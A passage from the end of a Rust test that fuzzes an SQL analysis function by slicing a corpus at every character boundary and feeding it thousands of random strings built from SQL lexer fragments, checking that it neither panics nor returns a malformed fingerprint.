        for end in (0..=corpus.len()).filter(|i| corpus.is_char_boundary(*i)) {
            for opts in [ON, OFF] {
                let a = analyze_sql(&corpus[..end], opts);
                assert!(a.fingerprint_id.len() == 16);
            }
        }
        let mut seed = 0x9e37_79b9_7f4a_7c15u64;
        let pieces = [
            "SELECT", " ", "'", "\"", "$$", "$a$", "/*", "*/", "--", "\n", ";", "(", ")", "E'",
            "\\", "FROM", "t", "1", "=", "WITH", "AS", "DELETE", "U&", "é", "?", "::", "$1",
        ];
        for _ in 0..3000 {
            let sql: String = (0..(seed % 24))
                .map(|_| {
                    seed ^= seed << 13;
                    seed ^= seed >> 7;
                    seed ^= seed << 17;
                    pieces[(seed % pieces.len() as u64) as usize]
                })
                .collect();
            let _ = (analyze_sql(&sql, ON), analyze_sql(&sql, OFF));
        }
    }
}
